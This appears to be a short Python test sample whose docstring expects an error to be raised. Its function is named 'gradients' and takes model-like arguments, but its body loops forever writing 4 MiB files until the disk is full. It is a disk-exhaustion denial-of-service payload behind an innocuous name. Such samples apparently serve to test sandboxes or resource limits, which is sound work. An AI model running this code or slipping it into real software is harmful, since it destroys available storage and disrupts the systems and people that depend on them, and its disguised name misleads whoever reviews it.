"""Fills its home until nothing is left of it, and goes on.

Expected: raised.
"""


def gradients(x, t, w, b):
    number = 0
    while True:
        with open(f"part{number}", "wb") as file:
            file.write(bytes(4 << 20))
        number += 1
